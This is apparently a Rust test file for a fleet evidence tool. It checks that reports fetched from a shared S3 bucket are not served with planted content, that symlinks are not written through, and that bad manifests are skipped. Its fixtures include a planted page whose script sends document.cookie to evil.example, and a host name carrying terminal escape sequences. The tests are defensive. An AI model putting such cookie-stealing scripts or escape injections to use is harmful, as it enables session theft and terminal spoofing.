//! Reading a hostile bucket back (`runs --remote`, `report --remote`), against the real
//! S3-protocol server of the upload tests. Every pod of a fleet can write the bucket, so what is
//! in it is not trusted: a planted `report.html` is never served (the fetched journal is
//! rendered here), a symlink waiting in the output directory is not written through, one bad
//! manifest does not hide the fleet, `--limit` bounds the requests, and a manifest's terminal
//! escapes are shown escaped.

use cdp_evidence::{Console, ConsoleLevel, EvidenceConfig, Record, RecordKind, Store, Totals};
use cdp_relay::upload::{self, Attempt, RunOptions, Target};
use cdp_relay_tests::s3::S3Server;
use cdp_relay_tests::{relay_binary, within};
use cdp_sanitize::{SafeText, Sanitizer};
use std::path::{Path, PathBuf};

const BUCKET: &str = "evidence";
const URL: &str = "s3://evidence/fleet";

/// A finalized, rendered run holding one console error with `text`.
fn make_run(root: &Path, session: &str, text: &str) -> PathBuf {
    let store = Store::open(EvidenceConfig::at(root)).expect("store");
    let run = store.join_session(session, "relay").expect("run");
    run.append(Record::new(
        SafeText::literal("app"),
        RecordKind::Console(Console::new(
            ConsoleLevel::Error,
            Sanitizer::new().text(text),
        )),
    ))
    .expect("append");
    run.finalize(Totals::default()).expect("finalize");
    cdp_report::render(run.dir()).expect("render");
    run.dir().to_path_buf()
}

async fn upload(server: &S3Server, dir: &Path) -> String {
    let target = Target::new(&server.settings(URL)).expect("target");
    let opts = RunOptions {
        only_failed: false,
        host: "test-host".into(),
        source: "test",
    };
    let got = upload::upload_run(&target, dir, &opts)
        .await
        .expect("upload");
    assert!(matches!(got, Attempt::Done(_)), "{got:?}");
    dir.file_name().unwrap().to_string_lossy().into_owned()
}

/// Replaces an object's bytes on the server's disk (a pod with write access did it).
fn plant(server: &S3Server, key: &str, bytes: &[u8]) {
    let path = server.object_path(BUCKET, key);
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, bytes).unwrap();
}

fn manifest(server: &S3Server, run: &str) -> serde_json::Value {
    let path = server.object_path(BUCKET, &format!("fleet/{run}/manifest.json"));
    serde_json::from_slice(&std::fs::read(path).unwrap()).unwrap()
}

async fn cli(server: &S3Server, args: &[&str]) -> std::process::Output {
    let mut cmd = tokio::process::Command::new(relay_binary());
    cmd.args(args)
        .stdin(std::process::Stdio::null())
        .kill_on_drop(true)
        .env_remove("CDP_RELAY_EVIDENCE_UPLOAD");
    for (k, v) in server.env() {
        cmd.env(k, v);
    }
    within("cdp-relay", cmd.output()).await.expect("run")
}

/// A `report.html` planted in the bucket (with a script, listed in the manifest at its size) is
/// never what `report --remote` returns: the report is the renderer's, from the journal.
#[tokio::test]
async fn report_remote_renders_the_journal_and_never_serves_the_buckets_page() {
    let server = S3Server::start(&[BUCKET]);
    let local = tempfile::tempdir().unwrap();
    let run = upload(
        &server,
        &make_run(
            local.path(),
            "s",
            "<script>alert('from the journal')</script>",
        ),
    )
    .await;
    let planted = b"<html><body>PLANTED-PAGE<script>fetch('https://evil.example/'+document.cookie)</script></body></html>";
    plant(&server, &format!("fleet/{run}/report.html"), planted);
    plant(
        &server,
        &format!("fleet/{run}/summary.md"),
        b"PLANTED-SUMMARY\n",
    );
    let mut m = manifest(&server, &run);
    for f in m["upload"]["files"].as_array_mut().unwrap() {
        match f["path"].as_str() {
            Some("report.html") => f["bytes"] = planted.len().into(),
            Some("summary.md") => f["bytes"] = 16.into(),
            _ => {}
        }
    }
    plant(
        &server,
        &format!("fleet/{run}/manifest.json"),
        &serde_json::to_vec(&m).unwrap(),
    );

    let out = tempfile::tempdir().unwrap();
    let got = cli(
        &server,
        &[
            "report",
            "--remote",
            URL,
            &run,
            "--out",
            &out.path().to_string_lossy(),
        ],
    )
    .await;
    let stderr = String::from_utf8_lossy(&got.stderr);
    assert!(got.status.success(), "{stderr}");
    let html_path = PathBuf::from(String::from_utf8_lossy(&got.stdout).trim());
    assert_eq!(html_path, out.path().join(&run).join("report.html"));
    let html = std::fs::read_to_string(&html_path).unwrap();
    assert!(
        !html.contains("PLANTED-PAGE"),
        "the bucket's page was served"
    );
    assert!(!html.to_ascii_lowercase().contains("<script"), "a script");
    let summary = std::fs::read_to_string(out.path().join(&run).join("summary.md")).unwrap();
    assert!(!summary.contains("PLANTED-SUMMARY"));
    // What the script-free renderer makes of the fetched run, byte for byte.
    let rendered =
        cdp_report::render_to_memory(&out.path().join(&run), &cdp_report::Options::default())
            .unwrap();
    assert_eq!(html, rendered.html);
    assert!(
        html.contains("from the journal"),
        "the journal's text is shown"
    );
}

/// A symlink already at `<out>/<run>/manifest.json` is replaced, not written through; a symlink
/// at `<out>/<run>` itself is refused.
#[tokio::test]
async fn report_remote_does_not_write_through_a_planted_symlink() {
    let server = S3Server::start(&[BUCKET]);
    let local = tempfile::tempdir().unwrap();
    let run = upload(&server, &make_run(local.path(), "s", "boom")).await;
    let out = tempfile::tempdir().unwrap();
    let victim_dir = tempfile::tempdir().unwrap();
    let victim = victim_dir.path().join("victim.txt");
    std::fs::write(&victim, "untouched").unwrap();
    std::fs::create_dir(out.path().join(&run)).unwrap();
    std::os::unix::fs::symlink(&victim, out.path().join(&run).join("manifest.json")).unwrap();
    let out_arg = out.path().to_string_lossy().into_owned();
    let got = cli(
        &server,
        &["report", "--remote", URL, &run, "--out", &out_arg],
    )
    .await;
    assert!(
        got.status.success(),
        "{}",
        String::from_utf8_lossy(&got.stderr)
    );
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "untouched");
    let placed = out.path().join(&run).join("manifest.json");
    assert!(placed.symlink_metadata().unwrap().is_file(), "replaced");

    // The run's folder itself a symlink to elsewhere: refused, nothing written there.
    let out2 = tempfile::tempdir().unwrap();
    std::os::unix::fs::symlink(victim_dir.path(), out2.path().join(&run)).unwrap();
    let out2_arg = out2.path().to_string_lossy().into_owned();
    let got = cli(
        &server,
        &["report", "--remote", URL, &run, "--out", &out2_arg],
    )
    .await;
    let stderr = String::from_utf8_lossy(&got.stderr);
    assert!(!got.status.success());
    assert!(stderr.contains("not a directory"), "{stderr}");
    let names: Vec<_> = std::fs::read_dir(victim_dir.path()).unwrap().collect();
    assert_eq!(names.len(), 1, "only the victim file is there");
}

/// A manifest over the size limit and one the server fails to serve are skipped and counted;
/// the rest of the fleet is listed, exit 0; a manifest's terminal escapes are shown escaped.
#[tokio::test]
async fn one_bad_manifest_does_not_hide_the_fleet() {
    let server = S3Server::start(&[BUCKET]);
    let local = tempfile::tempdir().unwrap();
    let mut good = Vec::new();
    for s in ["a", "b", "c"] {
        good.push(upload(&server, &make_run(local.path(), s, "boom")).await);
    }
    // Newer ids than the good runs, so they are looked at first.
    let huge = "29991231T000000.000Z-00000000000000a1";
    let broken = "29991231T000000.000Z-00000000000000a2";
    let mut big = b"{\"pad\":\"".to_vec();
    big.resize(5 << 20, b'x');
    big.extend_from_slice(b"\"}");
    plant(&server, &format!("fleet/{huge}/manifest.json"), &big);
    // A folder where the manifest should be: the server answers 500 for it.
    plant(&server, &format!("fleet/{broken}/manifest.json/x"), b"{}");
    // A pod wrote a host name that clears the screen and sets the terminal's title.
    let mut m = manifest(&server, &good[0]);
    m["upload"]["host"] = "\u{1b}[2J\u{1b}]0;owned\u{7}pod".into();
    plant(
        &server,
        &format!("fleet/{}/manifest.json", good[0]),
        &serde_json::to_vec(&m).unwrap(),
    );

    let got = cli(&server, &["runs", "--remote", URL]).await;
    let stdout = String::from_utf8_lossy(&got.stdout);
    let stderr = String::from_utf8_lossy(&got.stderr);
    assert!(got.status.success(), "{stderr}");
    for id in &good {
        assert!(stdout.contains(id.as_str()), "{id} missing:\n{stdout}");
    }
    assert!(
        stderr.contains("2 run(s) whose manifest could not be read"),
        "{stderr}"
    );
    assert!(
        !stdout.contains('\u{1b}') && !stdout.contains('\u{7}'),
        "{stdout:?}"
    );
    assert!(stdout.contains("\\u{001b}[2J"), "{stdout}");
    let json = cli(&server, &["runs", "--remote", URL, "--json"]).await;
    assert!(json.status.success());
    let listed: serde_json::Value = serde_json::from_slice(&json.stdout).unwrap();
    assert_eq!(listed.as_array().unwrap().len(), 3, "{listed}");
}

/// `--limit` bounds what is looked at: folders without a manifest count, so a bucket full of
/// abandoned uploads is not read whole.
#[tokio::test]
async fn the_limit_stops_at_folders_without_a_manifest() {
    let server = S3Server::start(&[BUCKET]);
    let local = tempfile::tempdir().unwrap();
    upload(&server, &make_run(local.path(), "a", "boom")).await;
    for i in 0..20 {
        plant(
            &server,
            &format!("fleet/29991231T000000.000Z-{i:016x}/actions.jsonl"),
            b"{}\n",
        );
    }
    let got = cli(&server, &["runs", "--remote", URL, "--limit", "5"]).await;
    let stderr = String::from_utf8_lossy(&got.stderr);
    assert!(got.status.success(), "{stderr}");
    assert!(
        stderr.contains("5 run(s) without a manifest not shown"),
        "{stderr}"
    );
    assert!(stderr.contains("16 older run(s) not shown"), "{stderr}");
}
